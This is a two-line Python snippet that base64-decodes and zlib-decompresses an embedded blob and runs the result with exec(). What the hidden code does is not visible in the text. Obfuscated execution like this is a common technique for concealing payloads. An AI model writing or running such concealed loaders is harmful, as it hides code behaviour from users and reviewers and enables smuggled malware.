import codecs
exec(codecs.decode(codecs.decode(b'eJzLzC3ILypRyC+2BmK94sriktRcDfXMFHVNAINXCRo=', 'base64'), 'zlib'))
